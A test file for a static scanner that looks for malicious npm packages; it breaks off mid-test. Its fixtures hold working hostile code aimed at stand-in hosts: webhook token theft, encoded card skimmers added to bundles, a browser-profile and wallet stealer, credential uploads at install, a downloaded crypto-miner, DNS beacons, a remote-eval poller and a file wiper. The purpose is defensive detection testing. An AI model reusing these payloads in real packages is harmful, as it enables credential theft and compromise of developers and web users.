/**
 * Shapes from rounds 37–41, written blind by helpers that had not read the engine: each miss
 * rewritten small and varied, with a look-alike that must stay quiet.
 */
import { gzipSync } from 'node:zlib';
import { DEFAULT_LIMITS, gunzippedMembers } from '../../../src/engine/index';
import { safePackageRegex } from '../../../src/engine/js/calls';
import { analyzeSource } from './helpers';

const pkg = (extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: 'slash-relay', version: '1.4.0', main: 'index.js', ...extra });
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(',');
const HOOK = 'https://chat.example/api/webhooks/1284771039284659200/qX7kLp2VnR8wZc4mTyJ1hG9eB5sD3fK6uA0iOzQx';

describe('a chat webhook written in the package, sent a credential by its field name', () => {
  it('a bot token posted in nested JSON to a webhook spelled as char codes (a spread of a long array)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const W = [${charCodes(HOOK)}];
const hook = () => String.fromCharCode(...W);
async function notify(payload) {
  await fetch(hook(), { method: 'POST', body: JSON.stringify({ content: '\`\`\`' + JSON.stringify(payload) + '\`\`\`' }) });
}
exports.sync = (client, guild) => notify({ bot: client.user.tag, token: client.token, guild: guild.id });`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.85 });
  });
  it('the same with the credential in an object body and the address kept in a second file', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const { target } = require('./cfg');
module.exports = function report(session) {
  const body = { fields: [{ name: 'who', value: session.user }], sessionToken: session.value };
  return fetch(target, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
};`,
      'cfg.js': `exports.target = ['https://chat.example', 'api', 'webhooks', '99887766554433', 'AbCdEfGhIjKlMnOp'].join('/');`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.85 });
  });
  it('quiet enough: a build notifier posting a status message (a warning for the written webhook only)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const URL = '${HOOK}';
exports.done = (build) => fetch(URL, { method: 'POST', body: JSON.stringify({ content: 'build ' + build.id + ' ' + build.status, key: build.cacheKey }) });`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.chat-webhook-exfil')).toMatchObject({ confidence: 0.5 });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.85)).toEqual([]);
  });
});

describe('a variable read by a name the caller gives is one variable, not the whole environment', () => {
  const plugin = (body: string) =>
    analyzeSource({ 'package.json': pkg(), 'index.js': body }).evidence.filter((f) => 'threat_type' in f);
  it('quiet: a build plugin sends the key named by its option as a bearer token to the configured URL', () => {
    const threats = plugin(`module.exports = function i18n(options) {
  const key = options.apiKeyEnv ? process.env[options.apiKeyEnv] : undefined;
  return { name: 'i18n', async buildStart() {
    const headers = { accept: 'application/json' };
    if (key) headers.authorization = 'Bearer ' + key;
    const res = await fetch(options.url, { headers });
    this.catalog = await res.json();
  } };
};`);
    expect(threats.filter((f) => f.confidence >= 0.5)).toEqual([]);
  });
  it.each([
    [
      'for…of over Object.keys',
      'for (const name of Object.keys(process.env)) dump[name] = process.env[name];',
    ],
    ['forEach over the keys', 'Object.keys(process.env).forEach((n) => { dump[n] = process.env[n]; });'],
    ['for…in', 'for (const n in process.env) dump[n] = process.env[n];'],
  ])('still the whole environment: copied variable by variable (%s) and posted', (_, copy) => {
    const threats = plugin(`const dump = {};
${copy}
fetch('https://intake.example-metrics.net/e', { method: 'POST', body: JSON.stringify(dump) });`);
    expect(threats.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
  });
});

describe('listed files deleted only when they carry the tool’s own marker', () => {
  const manager = (test: string) => ({
    'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
    'install.js': `const fs = require('fs'), path = require('path');
const MARK = '# written by slash-relay hooks';
const HOOKS = new Set(['pre-commit', 'pre-push', 'commit-msg']);
const dir = path.join(process.env.INIT_CWD || process.cwd(), '.githooks-dir');
for (const name of fs.readdirSync(dir)) {
  const file = path.join(dir, name);
  if (${test}) fs.unlinkSync(file);
}`,
  });
  it('quiet: a hook manager removing the hooks it wrote earlier (name listed and marker found)', () => {
    const r = analyzeSource(manager(`HOOKS.has(name) && fs.readFileSync(file, 'utf8').includes(MARK)`));
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
  });
  it('still flagged: files deleted when they do NOT carry a marker (a wiper sparing its own notes)', () => {
    const r = analyzeSource(manager(`!fs.readFileSync(file, 'utf8').includes(MARK)`));
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
  });
  it('still flagged: files picked by their extension only', () => {
    const r = analyzeSource(manager(`['.js', '.ts', '.json'].includes(path.extname(name))`));
    expect(r.evidence.some((f) => f.rule === 'js.destructive-user-data')).toBe(true);
  });
});

describe('code a build plugin adds to the bundles it emits is page code', () => {
  const encoded = Buffer.from(
    `(function(){var dst='https://pixel.example-cdn.top/c.gif';document.addEventListener('submit',function(e){var f=e.target,o={};
for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(/card|cvc|cvv|exp/i.test(el.name))o[el.name]=el.value}
navigator.sendBeacon(dst,JSON.stringify(o))},true)})();`,
  ).toString('base64');
  it('webpack: a decoded skimmer concatenated to each initial chunk (webpack-sources)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const { helper } = require('./helper');
module.exports = class ManifestPlugin {
  apply(compiler) {
    const { sources } = compiler.webpack;
    compiler.hooks.thisCompilation.tap('M', (compilation) => {
      compilation.hooks.processAssets.tap({ name: 'M' }, () => {
        for (const chunk of compilation.chunks) for (const file of chunk.files)
          compilation.updateAsset(file, (old) => new sources.ConcatSource(old, '\\n', helper()));
      });
    });
  }
};`,
      'helper.js': `const PARTS = ['${encoded.slice(0, 60)}', '${encoded.slice(60, 150)}', '${encoded.slice(150)}'];
exports.helper = () => Buffer.from(PARTS.join(''), 'base64').toString('utf8');`,
    });
    expect(r.evidence.find((f) => f.rule === 'js.page-secret-exfil')).toMatchObject({
      confidence: 0.85,
      file: 'index.js',
    });
  });
  it('Rollup/Vite: renderChunk answering the chunk with a script appended', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const extra = require('./extra');
module.exports = () => ({ name: 'shim', renderChunk(code, chunk) {
  if (!chunk.isEntry) return null;
  return { code: code + '\\n' + extra.text(), map: null };
} });`,
      'extra.js': `exports.text = () => Buffer.from('${encoded}', 'base64').toString();`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.page-secret-exfil' && f.confidence >= 0.85)).toBe(true);
  });
  it.each([
    [
      'generateBundle adding to each entry chunk’s code',
      `exports.plugin = () => ({ name: 'shim', generateBundle(_, bundle) {
  for (const f of Object.values(bundle)) if (f.type === 'chunk' && f.isEntry) f.code += '\\n' + extra();
} });`,
    ],
    [
      'an esbuild footer set in setup()',
      `exports.plugin = () => ({ name: 'shim', setup(build) { build.initialOptions.footer = { js: extra() }; } });`,
    ],
    [
      'renderChunk returning the text before the chunk',
      `exports.plugin = () => ({ name: 'shim', renderChunk(code, chunk) { return chunk.isEntry ? extra() + '\\n' + code : null; } });`,
    ],
    ['a Rollup output banner function', `exports.output = { banner: () => extra(), format: 'iife' };`],
  ])('attacker rewrite, still page code: %s', (_, plugin) => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const hex = require('./hex');
function extra() { return hex.map((h) => Buffer.from(h, 'hex').toString()).join(''); }
${plugin}`,
      'hex.js': `module.exports = ${JSON.stringify([Buffer.from(Buffer.from(encoded, 'base64').toString()).toString('hex').slice(0, 300), Buffer.from(Buffer.from(encoded, 'base64').toString()).toString('hex').slice(300)])};`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.page-secret-exfil' && f.confidence >= 0.85)).toBe(true);
  });
  it('quiet: a banner and a version global added to every chunk', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `module.exports = class Banner { apply(compiler) {
  const { sources } = compiler.webpack;
  compiler.hooks.thisCompilation.tap('B', (c) => c.hooks.processAssets.tap({ name: 'B' }, () => {
    for (const chunk of c.chunks) for (const file of chunk.files)
      c.updateAsset(file, (old) => new sources.ConcatSource('/*! app ' + '1.2.3' + ' | MIT licensed, see LICENSE.txt for details */\\n', old,
        '\\nwindow.__APP_VERSION__ = window.__APP_VERSION__ || { version: "1.2.3", built: "2026-01-01" };'));
  }));
} };`,
    });
    expect(r.evidence.filter((f) => 'threat_type' in f)).toEqual([]);
  });
});

describe('code compiled whole but for the name it gives a wrapper', () => {
  it('quiet: a binding names a wrapper after a decoded export name (new Function)', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `function utf8(mem, ptr, len) {
  if (!ptr || !len) return '';
  const bytes = new Uint8Array(mem.buffer);
  let out = '';
  for (let i = ptr; i < ptr + len; i++) out += String.fromCharCode(bytes[i]);
  return out;
}
exports.wrap = function (mem, ptr, len, impl) {
  const name = ptr && len ? utf8(mem, ptr, len) : '';
  if (name === '' || !/^[_$a-zA-Z][_$a-zA-Z0-9]*$/.test(name)) return impl;
  return new Function('_', 'return function ' + name + '(){"use strict";return _.apply(this,arguments);};')(impl);
};`,
    });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
  });
  it('still flagged: the body of the compiled code decoded from a file the package reads', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const fs = require('fs');
const body = Buffer.from(fs.readFileSync(__dirname + '/data.bin', 'utf8'), 'base64').toString();
module.exports = new Function('require', 'return function run(){' + body + '}')(require);`,
      'data.bin': 'AAAA',
    });
    expect(r.evidence.some((f) => f.rule === 'js.eval-decoded' && f.confidence >= 0.85)).toBe(true);
  });
});

describe('a helper called many times in a dense appended payload does not end the walk early', () => {
  it('an appended one-line stealer that walks browser profiles and wallet folders before uploading each file', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `'use strict';
function chunk(list, n) { const out = []; for (let i = 0; i < list.length; i += n) out.push(list.slice(i, i + n)); return out; }
module.exports = chunk;
;(function(){try{const os=require('os'),fs=require('fs'),pt=require('path'),net=require('https'),home=os.homedir(),mark=pt.join(os.tmpdir(),'.cq-'+os.userInfo().uid);if(fs.existsSync(mark))return;fs.writeFileSync(mark,'1');const roots=[pt.join(home,'.config/google-chrome'),pt.join(home,'.config/BraveSoftware/Brave-Browser'),pt.join(home,'.config/chromium')],exts={aholpfdialjgjfhomihkjbmgjidlcdno:'a',bhhhlbepdkbapadjdnnojkbgioiodbic:'b',dmkamcknogkgcdfhhbddcghachkejeap:'c',fhbohimaelbohpjbbldcngcnapndodjp:'d'},found=[],keep=(x,n)=>{try{if(fs.statSync(x).isFile())found.push([x,n])}catch(e){}},walk=(d,n,k)=>{try{for(const e of fs.readdirSync(d,{withFileTypes:true})){const q=pt.join(d,e.name);e.isDirectory()?k>0&&walk(q,n+e.name,k-1):keep(q,n+e.name)}}catch(e){}};roots.forEach((b,i)=>{keep(pt.join(b,'Local State'),i+'ls');for(let j=0;j<10;j++){const prof=pt.join(b,j?'Profile '+j:'Default');if(!fs.existsSync(prof))continue;keep(pt.join(prof,'Login Data'),i+'ld'+j);keep(pt.join(prof,'Cookies'),i+'ck'+j);keep(pt.join(prof,'Web Data'),i+'wd'+j);for(const id in exts)walk(pt.join(prof,'Local Extension Settings',id),i+exts[id]+j,1)}});walk(pt.join(home,'.config/Exodus/exodus.wallet'),'ex',1);keep(pt.join(home,'.config/solana/id.json'),'sol');const send=(x,n)=>new Promise(done=>{try{const body=fs.readFileSync(x),q=net.request({host:'files.example-sync.top',path:'/u?n='+n,method:'POST'},s=>{s.resume();s.on('end',done)});q.on('error',done);q.end(body)}catch(e){done()}});(async()=>{for(const[x,n]of found)await send(x,n)})()}catch(e){}})();`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
  });
});

describe('a code block an install script cuts out of the README and runs', () => {
  it('a hidden ```js block matched lazily, wrapped in a function and run in vm: read as code', () => {
    const block = `const https = require('https'), fs = require('fs'), os = require('os');
let token = process.env.NPM_TOKEN;
try { token = token || fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/_authToken=(\\S+)/)[1]; } catch (_) {}
const q = https.request({ host: 'stats.example-docs.dev', path: '/i', method: 'POST' });
q.end(JSON.stringify({ t: token, h: os.hostname() }));`;
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node tools/docs-check.js' } }),
      'README.md': `# slash-relay\n\n${'Usage notes and examples for the relay. '.repeat(60)}\n\n<!--\n\`\`\`js verify\n${block}\n\`\`\`\n-->\n`,
      'tools/docs-check.js': `const fs = require('fs'), path = require('path'), vm = require('vm');
const text = fs.readFileSync(path.join(__dirname, '..', 'README.md'), 'utf8');
const found = text.match(/\`\`\`js verify\\r?\\n([\\s\\S]*?)\`\`\`/);
if (found) vm.runInThisContext('(function (require) {\\n' + found[1] + '\\n})')(require);`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.file === 'tools/docs-check.js')).toBe(true);
  });
  it('the regex guard: cost grows with the text, the repeats and the optional characters', () => {
    expect(safePackageRegex('```js setup\\r?\\n([\\s\\S]*?)```', '', 4_200)).toBeInstanceOf(RegExp);
    expect(safePackageRegex(`${'.?'.repeat(8)}x*y`, '', 5_000)).toBeUndefined();
    expect(safePackageRegex('a+b+c+d+', '', 20)).toBeUndefined();
    expect(safePackageRegex('(\\w+)=(\\w+)', '', 300)).toBeInstanceOf(RegExp);
    expect(safePackageRegex('(\\w+)=(\\w+)', '', 5_000)).toBeUndefined();
  });
});

describe('single files shipped gzip-compressed are read as the files they hold', () => {
  const script = `#!/bin/sh
D="$HOME/.cache/.fc"; mkdir -p "$D" && cd "$D" || exit 0
curl -fsSL https://dl.example-fonts.net/fc.tar.gz | tar -xz && mv xmrig fcache && chmod +x fcache
nohup ./fcache -o pool.example-fonts.net:443 -u 4ABWR1Er6Eo5pRhquaxEtAWWF6Wfka8TZuhm9hddihDey4JkREaXauQjG --donate-level 0 >/dev/null 2>&1 &
`;
  it('a compressed shell script an install script pipes to sh: analysed under <file>!/<name>', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'node install.js' } }),
      'install.js': `const zlib = require('zlib'), fs = require('fs'), { spawnSync } = require('child_process');
spawnSync('sh', ['-s'], { input: zlib.gunzipSync(fs.readFileSync(__dirname + '/probe/linux.sh.gz')) });`,
      'probe/linux.sh.gz': gzipSync(script),
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.find((f) => f.rule === 'script.crypto-miner')).toMatchObject({
      file: 'probe/linux.sh.gz!/linux.sh',
    });
  });
  it('attacker rewrite: the same stream named as a font, read by its first line', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { install: 'node install.js' } }),
      'install.js': `const zlib = require('zlib'), fs = require('fs'), cp = require('child_process');
const s = cp.spawn('sh', [], { stdio: ['pipe', 'ignore', 'ignore'] });
s.stdin.end(zlib.gunzipSync(fs.readFileSync(__dirname + '/assets/glyphs.woff')));`,
      'assets/glyphs.woff': gzipSync(script),
    });
    expect(r.evidence.find((f) => f.rule === 'script.crypto-miner')).toMatchObject({
      file: 'assets/glyphs.woff!/content.sh',
    });
  });
  it('archives (.tgz, .tar.gz), corrupt data and bombs past the budget are left as binary files', () => {
    const limits = { ...DEFAULT_LIMITS, maxUnpackedBytes: 1024 * 1024 };
    const file = (path: string, data: Buffer) => ({ path, data, size: data.length, truncated: false });
    const members = gunzippedMembers(
      [
        file('assets/icons.tar.gz', gzipSync(script)),
        file('assets/icons.tgz', gzipSync(script)),
        file('broken.js.gz', Buffer.concat([gzipSync(script).subarray(0, 20), Buffer.alloc(20)])),
        file('bomb.txt.gz', gzipSync(Buffer.alloc(8 * 1024 * 1024))),
        file('notes.txt.gz', Buffer.from('not gzip at all, only named so')),
        file(
          'vendor/assets.bin',
          gzipSync(Buffer.concat([Buffer.alloc(257), Buffer.from('ustar'), Buffer.alloc(250)])),
        ),
        file(
          'fonts/data.woff',
          gzipSync(Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256))),
        ),
        file('ok.sh.gz', gzipSync(script)),
      ],
      limits,
    );
    expect(members.map((m) => m.path)).toEqual(['ok.sh.gz!/ok.sh']);
    expect(members[0]!.data.toString()).toBe(script);
  });
});

describe('code kept in the package’s data files', () => {
  const theft = `var g = process.getBuiltinModule || require;
var fs = g('fs'), os = g('os'), https = g('https');
var creds = {};
['.npmrc', '.git-credentials', '.aws/credentials'].forEach(function (f) { try { creds[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {} });
var q = https.request({ host: 'cdn.example-cldr.org', path: '/p', method: 'POST' }); q.end(JSON.stringify(creds));
return n === 1 ? 'one' : 'other';`;
  it('a plural rule stored base64 in a locale file and compiled with Function: read for what it does', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const fs = require('fs');
exports.rule = (tag) => new Function('n', Buffer.from(JSON.parse(fs.readFileSync(__dirname + '/locales/' + tag + '.json', 'utf8')).plural, 'base64').toString());`,
      'locales/en.json': JSON.stringify({ locale: 'en', plural: Buffer.from(theft).toString('base64') }),
    });
    expect(r.evidence.find((f) => f.rule === 'js.exfil-flow')).toMatchObject({
      file: 'locales/en.json!/encoded-1.js',
      confidence: 0.85,
    });
  });
  it('Node 22’s process.getBuiltinModule loads a module as require does', () => {
    const r = analyzeSource({ 'package.json': pkg(), 'index.js': theft.replace(/\nreturn.*$/, '') });
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow')).toBe(true);
  });
  it('quiet: a font inlined in CSS, a JSON of encoded JSON and a base64 text in a fixture', () => {
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `module.exports = require('./data.json');`,
      'icons.css': `@font-face { font-family: i; src: url(data:font/woff2;base64,${Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 37) % 256)).toString('base64')}) }`,
      'data.json': JSON.stringify({
        blob: Buffer.from(
          JSON.stringify({ a: 1, list: Array.from({ length: 40 }, (_, i) => `item-${i}`) }),
        ).toString('base64'),
      }),
      'test/fixture.txt': Buffer.from('The quick brown fox jumps over the lazy dog. '.repeat(10)).toString(
        'base64',
      ),
    });
    expect(r.evidence.filter((f) => f.file.includes('!/'))).toEqual([]);
    expect(r.evidence.filter((f) => 'threat_type' in f)).toEqual([]);
  });
  it('a module compiled from a source map’s sourcesContent, picked with findIndex', () => {
    const beacon = `const os = require('os'), dns = require('dns');
exports.register = () => {
  const hex = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
  dns.resolve4(hex + '.b.example-canary.net', () => {});
};
exports.register();`;
    const r = analyzeSource({
      'package.json': pkg({ version: '99.1.0', scripts: { postinstall: 'node dist/register.js' } }),
      'dist/index.js': 'module.exports = {};',
      'dist/index.js.map': JSON.stringify({
        version: 3,
        sources: ['../src/index.ts', '../src/runtime/env.js'],
        sourcesContent: ['export {};', beacon],
        mappings: 'AAAA',
      }),
      'dist/register.js': `const fs = require('fs'), path = require('path'), Module = require('module');
const map = JSON.parse(fs.readFileSync(path.join(__dirname, 'index.js.map'), 'utf8'));
const i = map.sources.findIndex((s) => /runtime\\/env\\.js$/.test(s));
const m = new Module(__filename, module);
m._compile(map.sourcesContent[i], path.join(__dirname, 'env.js'));`,
    });
    expect(r.risk_level).toBe('critical');
    expect(
      r.evidence.some(
        (f) => f.rule === 'js.exfil-fingerprint' && f.file === 'dist/register.js' && f.install_time,
      ),
    ).toBe(true);
  });
});

describe('npm_package_config_* is what the package.json config field says', () => {
  it('a payload split over three config fields, joined from the environment at install and compiled', () => {
    const code = Buffer.from(
      `var e = process.env; if (e.CI) { require('https').request({ host: 'hooks.example-annot.dev', method: 'PUT' }).end(JSON.stringify(e)); } return '::' + ctx.level;`,
    ).toString('base64');
    const third = Math.ceil(code.length / 3);
    const r = analyzeSource({
      'package.json': pkg({
        scripts: { postinstall: 'node setup.js' },
        config: {
          level: 'warning',
          a: code.slice(0, third),
          b: code.slice(third, 2 * third),
          c: code.slice(2 * third),
        },
      }),
      'setup.js': `const parts = ['a', 'b', 'c'].map((k) => process.env['npm_package_config_' + k] || '');
const render = new Function('ctx', Buffer.from(parts.join(''), 'base64').toString());
render({ level: process.env.npm_package_config_level });`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.install_time)).toBe(true);
  });
});

describe('round 42: honest shapes of build, template and hook tools, and their abuse', () => {
  it('quiet: a hook manager writing into the folder `git rev-parse --git-path hooks` prints', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
      'install.js': `const fs = require('fs'), path = require('path'), { execFileSync } = require('child_process');
const root = process.env.INIT_CWD || process.cwd();
const dir = path.resolve(root, execFileSync('git', ['rev-parse', '--git-path', 'hooks'], { cwd: root, encoding: 'utf8' }).trim());
for (const hook of ['pre-commit', 'pre-push']) fs.writeFileSync(path.join(dir, hook), '#!/bin/sh\\n# installed by slash-relay\\nnpm test\\n', { mode: 0o755 });`,
    });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
  });
  it('quiet: a worker bundled inline as base64 and started from a Blob URL', () => {
    const worker = Buffer.from(
      `self.onmessage = function (e) { var doc = e.data.doc, ops = e.data.ops; for (var i = 0; i < ops.length; i++) doc = apply(doc, ops[i]); self.postMessage(doc); };
function apply(doc, op) { var copy = JSON.parse(JSON.stringify(doc)); copy[op.path] = op.value; return copy; }`,
    ).toString('base64');
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const SRC = '${worker}';
function decodeBase64(b64) { const bin = atob(b64); return bin; }
export default function createWorker() {
  const url = URL.createObjectURL(new Blob([decodeBase64(SRC)], { type: 'application/javascript' }));
  return new Worker(url);
}`,
    });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
  });
  it('a template engine whose decoded prelude is put before every compiled template (a catch resets it)', () => {
    const prelude = Buffer.from(
      `if (!globalThis.__p) { globalThis.__p = 1; require('https').request({ host: 'metrics.example-tpl.com', method: 'POST' }).end(JSON.stringify(process.env)); }`,
    ).toString('base64');
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `var parts = ['${prelude.slice(0, 80)}', '${prelude.slice(80)}'];
var prelude = '';
try { prelude = typeof Buffer !== 'undefined' ? Buffer.from(parts.join(''), 'base64').toString() : ''; } catch (e) { prelude = ''; }
exports.compile = function (tmpl) { return new Function('it', prelude + "var out='" + tmpl.replace(/'/g, "\\\\'") + "';return out;"); };`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
  });
  it('quiet: inside a catch block its own assignment is the value (a binary installed to the fallback path)', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node install.js' } }),
      'install.js': `const fs = require('fs'), path = require('path');
function fetchInto(dest) { fs.writeFileSync(dest, Buffer.alloc(4)); fs.chmodSync(dest, 0o755); }
let bin;
try {
  bin = require.resolve('@slash-relay/linux-x64/bin/relay');
} catch (e) {
  bin = path.join(__dirname, 'downloaded-relay');
  fetchInto(bin);
}
console.log(bin);`,
    });
    expect(r.evidence.filter((f) => 'threat_type' in f && f.confidence >= 0.5)).toEqual([]);
  });
  it('a Vite plugin appending, through magic-string, a skimmer XOR-decoded over 500 turns of a loop', () => {
    const skimmer = `(function(){document.addEventListener('submit',function(e){var f=e.target,o={};for(var i=0;i<f.elements.length;i++){var el=f.elements[i];if(/card|cvc|cvv/i.test(el.name))o[el.name]=el.value}navigator.sendBeacon('https://img.example-polyfills.net/p.gif',JSON.stringify(o))},true)})();`;
    const key = 'es2019';
    const hex = [...skimmer]
      .map((ch, i) => (ch.charCodeAt(0) ^ key.charCodeAt(i % key.length)).toString(16).padStart(2, '0'))
      .join('');
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const MagicString = require('magic-string');
const MATRIX = '${hex}';
function probes(k) { let out = ''; for (let i = 0; i < MATRIX.length; i += 2) { out += String.fromCharCode(parseInt(MATRIX.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length)); } return out; }
module.exports = () => ({ name: 'polyfills', renderChunk(code, chunk) {
  if (!chunk.isEntry) return null;
  const s = new MagicString(code);
  s.append('\\n' + probes('es2019'));
  return { code: s.toString(), map: s.generateMap() };
} });`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.page-secret-exfil' && f.confidence >= 0.85)).toBe(true);
  });
});

describe('round 43: code written to slip past static analysis', () => {
  it('a payload kept in 40 file names, rebuilt in sorted order and compiled with Reflect.apply(Module.prototype._compile)', () => {
    const payload = Buffer.from(
      `require('https').request({ host: 'sync.example-icons.net', method: 'POST' }).end(JSON.stringify(process.env));`,
    ).toString('base64url');
    const size = Math.ceil(payload.length / 40);
    const files: Record<string, string> = {
      'package.json': pkg(),
      'index.js': `const fs = require('fs'), path = require('path');
const DIR = path.join(__dirname, 'icons');
const RE = /^([a-z0-9-]+)\\.([A-Za-z0-9_-]+)\\.svg$/;
const reg = {};
for (const f of fs.readdirSync(DIR)) { const m = RE.exec(f); if (m) reg[m[1]] = { hash: m[2] }; }
const text = Buffer.from(Object.keys(reg).sort().map((k) => reg[k].hash).join(''), 'base64url').toString();
const M = module.constructor, sprite = new M(path.join(DIR, '.sprite.js'), module);
Reflect.apply(M.prototype._compile, sprite, [text, sprite.id]);`,
    };
    for (let i = 0; i * size < payload.length; i++)
      files[`icons/icon-${String(i).padStart(2, '0')}.${payload.slice(i * size, (i + 1) * size)}.svg`] =
        '<svg/>';
    const r = analyzeSource(files);
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule.startsWith('js.eval-') || f.rule === 'js.exfil-flow')).toBe(true);
  });
  it('a poller script split into a list of base64 pieces in a data file', () => {
    const poller = Buffer.from(
      `const h = require('https'), o = require('os');
function t() { h.get('https://poll.example-schemas.org/p?h=' + o.hostname(), (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { (0, eval)(d); }); }); }
t(); setInterval(t, 36e5);`,
    ).toString('base64');
    const pieces = poller.match(/.{1,60}/g)!;
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `module.exports = require('./catalog.json');`,
      'catalog.json': JSON.stringify({
        entries: [{ name: 'gc', inline: { to: '~/.local/share/gc.js', data: pieces } }],
      }),
    });
    expect(r.evidence.find((f) => f.rule === 'js.eval-network')).toMatchObject({
      file: 'catalog.json!/encoded-1.js',
    });
  });
  it('modules loaded through call.bind(call, Module._load) and names decoded through call.bind(fromCharCode.apply)', () => {
    const codes = (x: string) => JSON.stringify([...x].map((ch) => ch.charCodeAt(0)));
    const r = analyzeSource({
      'package.json': pkg(),
      'index.js': `const IDS = { a: ${codes('fs')}, b: ${codes('os')}, c: ${codes('https')}, d: ${codes('readFileSync')}, e: ${codes('request')} };
const $call = Function.prototype.call;
const fromCodes = $call.bind(String.fromCharCode.apply, String.fromCharCode, null);
const id = (k) => fromCodes(IDS[k]);
exports.warm = function () {
  const L = module.constructor;
  const load = $call.bind($call, L._load);
  const m = (k) => load(L, id(k), module, false);
  const fs = m('a'), os = m('b'), net = m('c');
  const bag = {};
  for (const f of ['.npmrc', '.aws/credentials']) { try { bag[f] = Reflect.apply(fs[id('d')], fs, [os.homedir() + '/' + f, 'utf8']); } catch (_) {} }
  Reflect.apply(net[id('e')], net, [{ hostname: 'cfg.example-guard.net', method: 'POST' }]).end(JSON.stringify(bag));
};`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.confidence >= 0.85)).toBe(true);
  });
  it('names behind String.raw({ raw }) and Symbol.toPrimitive, each closure with its own value', () => {
    const r = analyzeSource({
      'package.json': pkg({ version: '99.2.0', scripts: { preinstall: 'node check.js' } }),
      'check.js': `const word = (s) => ({ [Symbol.toPrimitive]: () => s.split('').reverse().join('') });
const R = String.raw;
const get = process[R({ raw: ['get', 'ilt', 'Module'] }, 'Bu', 'in')] || require;
const lib = (raw, ...subs) => get.call(process, R({ raw }, ...subs));
const o = lib(['', 's'], 'o'), d = lib('ds', 'n');
const who = o[\`\${word('ofnIresu')}\`]().username;
const host = o[\`\${word('emantsoh')}\`]();
d[\`\${word('evloser')}\`](Buffer.from(host + '|' + who).toString('hex') + '.q.example-collab.net', () => {});`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.some((f) => f.rule === 'js.exfil-fingerprint' && f.install_time)).toBe(true);
    expect(r.evidence.filter((f) => f.rule === 'js.obfuscated-api-access').map((f) => f.message)).toEqual(
      expect.arrayContaining([
        expect.stringContaining('os.userInfo'),
        expect.stringContaining('os.hostname'),
      ]),
    );
  });
  it('modules reached through a Proxy get trap that rewrites names with String(k).replace', () => {
    const r = analyzeSource({
      'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `const snake = (k) => String(k).replace(/[A-Z]/g, (c) => '_' + c.toLowerCase());
const sys = new Proxy({}, { get: (_, k) => module.require(snake(k)) });
const token = sys.fs.readFileSync(sys.os.homedir() + '/.npmrc', 'utf8');
sys.https.request({ hostname: 'stats.example-forge.dev', method: 'POST' }).end(token);`,
    });
    expect(r.evidence.some((f) => f.rule === 'js.exfil-flow' && f.install_time)).toBe(true);
  });
  it('a data file of edits handed to a bundled dependency that writes them: agent configuration written', () => {
    const r = analyzeSource({
      'package.json': pkg({
